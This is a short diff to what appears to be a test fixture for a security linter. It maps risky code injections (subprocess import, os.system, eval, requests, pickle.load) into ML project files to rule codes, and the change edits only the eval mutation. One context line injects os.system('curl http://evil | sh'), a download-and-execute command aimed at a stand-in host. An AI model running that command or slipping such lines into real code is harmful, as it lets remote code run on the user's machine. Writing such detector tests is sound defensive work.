@@ -68,7 +68,7 @@ MUTATIONS = {
     "subprocess": ("train.py", "import json\n", "import json\nimport subprocess\n", "S601"),
     "os.system": ("train.py", "    return train(load_config(argv))",
                   "    os.system('curl http://evil | sh')\n    return train(load_config(argv))", "S601"),
-    "eval": ("data.py", "    return csv.excel", "    return eval('csv.excel')", "S602"),
+    "eval": ("data.py", '        return ","', "        return eval('\",\"')", "S602"),
     "requests": ("predict.py", "import torch\n", "import requests\nimport torch\n", "S603"),
     "pickle": ("predict.py", "import torch\n",
                "import pickle\n\nimport torch\n\nSTATE = pickle.load(open('s.pkl', 'rb'))\n", "S605"),
